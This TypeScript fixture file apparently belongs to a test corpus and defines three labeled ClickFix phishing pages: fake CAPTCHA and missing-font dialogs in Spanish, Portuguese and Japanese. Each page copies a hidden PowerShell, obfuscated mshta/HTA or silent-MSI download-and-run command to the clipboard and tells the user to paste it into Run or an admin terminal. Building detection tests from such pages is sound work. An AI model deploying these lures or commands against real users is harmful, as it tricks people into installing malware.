import type { Entry } from '../entry.js';
import { doc, corpCss, shell, okJson, img, htmlRoute, jsRoute, jsonRoute } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-clickfix-verificacion-humano-es',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://noticias-del-sur.com.ar/politica/2026/11/28/elecciones-provinciales-resultados',
  body: `<!DOCTYPE html><html lang="es-AR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Un momento…</title>
<style>body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;background:#fff;color:#313131}.m{max-width:640px;margin:80px auto;padding:0 20px}h1{font-size:30px;font-weight:500}.b{border:1px solid #e0e0e0;background:#fafafa;padding:18px;display:flex;align-items:center;gap:14px;width:300px;border-radius:4px;cursor:pointer}.b span{width:26px;height:26px;border:2px solid #bbb;border-radius:4px;background:#fff}.s{display:none;border:1px solid #ddd;border-radius:6px;padding:20px;margin-top:24px;background:#fff;box-shadow:0 4px 18px rgba(0,0,0,.12)}.s ol li{margin:10px 0}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:2px 6px;font-size:13px}.f{color:#999;font-size:12px;margin-top:60px}</style></head>
<body><div class="m"><h1>noticias-del-sur.com.ar</h1><p>Verificá que sos un ser humano. Esto puede tardar unos segundos.</p>
<div class="b" id="cb"><span></span>No soy un robot</div>
<div class="s" id="st"><b>Verificación adicional requerida</b><p>Detectamos tráfico inusual desde tu red. Para continuar, completá estos pasos:</p>
<ol><li>Presioná <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Presioná <kbd>Ctrl</kbd> + <kbd>V</kbd> para pegar el código de verificación</li><li>Presioná <kbd>Enter</kbd></li></ol>
<p style="font-size:13px;color:#777">ID de verificación: <span id="rid">8821-CF</span></p></div>
<div class="f">Ray ID: 8e4a2f1d7c9b33a1 · Rendimiento y seguridad por Cloudflare</div></div>
<script>
var c='powershell -w hidden -nop -c "iex(irm https://cdn-verif.noticias-del-sur.com.ar/v.ps1)" # \u2705 Soy humano - ID de verificación: 8821-CF';
document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
this.innerHTML='<span style="border-color:#1a73e8"></span>Verificando...';document.getElementById('st').style.display='block';};
</script></body></html>`,
  routes: {
    'cdn-verif.noticias-del-sur.com.ar/v.ps1': { status: 200, headers: { 'content-type': 'text/plain' }, body: '$p="$env:APPDATA\\svc";New-Item -ItemType Directory -Force $p|Out-Null;iwr https://cdn-verif.noticias-del-sur.com.ar/s.zip -OutFile "$p\\s.zip";Expand-Archive "$p\\s.zip" $p -Force;Start-Process "$p\\svchelper.exe"' },
  },
},
{
  id: 'u-clickfix-recaptcha-prova-humano-ptbr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://baixar-filmes-dublados.net/assistir/duna-parte-dois-2024/',
  body: doc({
    lang: 'pt-BR',
    title: 'Assistir Duna: Parte Dois (2024) Dublado Online Grátis HD',
    css: 'body{margin:0;background:#111;color:#ddd;font-family:Arial,sans-serif}.p{max-width:860px;margin:20px auto;background:#000;height:420px;position:relative;display:flex;align-items:center;justify-content:center}.ov{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center;z-index:9}.w{background:#fff;color:#222;width:380px;border-radius:4px;box-shadow:0 2px 10px #000}.w .h{background:#4a90e2;color:#fff;padding:18px;font-size:18px}.w .c{padding:18px;font-size:14px}.w code{display:block;background:#f1f1f1;padding:8px;font-size:12px;margin:10px 0}.w button{background:#4a90e2;color:#fff;border:0;padding:10px 18px}',
    body: `<h2 style="text-align:center">Duna: Parte Dois (2024) — Dublado 1080p</h2><div class="p" id="pl"><div style="font-size:60px;cursor:pointer" onclick="v()">▶</div></div>
<p style="text-align:center;font-size:13px">Servidores: Dublado 1 · Dublado 2 · Legendado</p>
<div class="ov" id="ov"><div class="w"><div class="h">Verificação reCAPTCHA<br><small>Confirme que você não é um robô</small></div><div class="c">
<p>Para liberar o player, realize a verificação:</p><ol><li>Pressione e segure a tecla <b>Windows</b> e pressione <b>R</b></li><li>Na janela de verificação, pressione <b>CTRL + V</b></li><li>Pressione <b>Enter</b> para concluir</li></ol>
<code id="cd">Verificação #A7F2-55</code><button onclick="cp()">Verificar</button></div></div></div>
<script src="/assistir/player/captcha.js"></script>`,
  }),
  routes: {
    'baixar-filmes-dublados.net/assistir/player/captcha.js': jsRoute(`var _0x=['bXNodGEuZXhlIGh0dHBzOi8vcGxheWVyLWNkbi5iYWl4YXItZmlsbWVzLWR1YmxhZG9zLm5ldC9jYXB0Y2hhLmh0YQ==',' # ✔ Eu não sou um robô - reCAPTCHA ID: A7F2-55'];
function v(){document.getElementById('ov').style.display='flex';cp();}
function cp(){var s=atob(_0x[0])+_0x[1];try{navigator.clipboard.writeText(s)}catch(e){}var t=document.createElement('textarea');t.value=s;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();}`),
    'player-cdn.baixar-filmes-dublados.net/captcha.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: '<html><head><HTA:APPLICATION SHOWINTASKBAR="no" WINDOWSTATE="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w h -ep bypass -c iex(iwr https://player-cdn.baixar-filmes-dublados.net/p.ps1 -UseBasicParsing)",0:window.close</script></head></html>' },
  },
},
{
  id: 'u-clickfix-font-moji-bake-jp',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://kabu-navi-blog.jp/2026/11/nisa-tsumitate-osusume/',
  body: doc({
    lang: 'ja',
    title: '新NISAつみたて投資枠おすすめ銘柄2026 | 株ナビブログ',
    css: 'body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;background:#fff;color:#333}article{max-width:760px;margin:0 auto;padding:30px 20px;line-height:1.9}.gb{filter:blur(3px)}.dlg{position:fixed;left:50%;top:18%;transform:translateX(-50%);width:520px;background:#fff;border:1px solid #ccc;box-shadow:0 8px 30px rgba(0,0,0,.3);font-family:"Segoe UI",Meiryo,sans-serif;z-index:10;display:none}.dlg .t{background:#2b579a;color:#fff;padding:12px 16px}.dlg .c{padding:18px;font-size:14px}.dlg ol li{margin:6px 0}.dlg button{background:#2b579a;color:#fff;border:0;padding:10px 20px}',
    body: `<article id="art"><h1>新NISAつみたて投資枠おすすめ銘柄2026</h1><p>こんにちは、株ナビです。今回は新NISAのつみたて投資枠で買える投資信託の中から、信託報酬の低いおすすめ銘柄を紹介します。</p><p>繧ｪ繝ｫ繧ｫ繝ｳ蜈ｨ荳也阜譬ｪ蠑上�ｼ医が繝ｼ繝ｫ繝ｻ繧ｫ繝ｳ繝医Μ繝ｼ�ｼ峨�ｯ菫｡險怜�ｱ驟ｬ縺御ｽ弱￥窶ｦ</p><p>繧ｹ繝ｪ繝ｼ繝ｻS&amp;P500縺ｯ邀ｳ蝗ｽ縺ｮ螟ｧ蝙区ｪ縺ｫ蛻�謨｣謚戊ｳ�縺ｧ縺阪∪縺吶�</p></article>
<div class="dlg" id="d"><div class="t">"Meiryo UI" フォントが見つかりません</div><div class="c"><p>このWebページは日本語フォント "Meiryo UI" を使用しています。文字化けを修正するには、フォントパックを更新してください。</p>
<ol><li><b>Windowsキー + X</b> を押し、「ターミナル（管理者）」を選択</li><li>右クリックで貼り付け（コードはコピー済みです）</li><li><b>Enter</b> キーを押す</li></ol><button id="fx">修正コードをコピー</button></div></div>
<script>
var cmd='powershell -NoP -W Hidden -C "$f=Join-Path $env:TEMP \\'fontpack.msi\\';iwr https://fonts-update.kabu-navi-blog.jp/jp/MeiryoUI_FontPack.msi -OutFile $f;msiexec /i $f /qn"';
function cp(){navigator.clipboard&&navigator.clipboard.writeText(cmd).catch(function(){});}
setTimeout(function(){document.getElementById('art').className='gb';document.getElementById('d').style.display='block';cp();},2000);
document.getElementById('fx').onclick=function(){cp();this.textContent='コピーしました';};
</script>`,
  }),
},
];
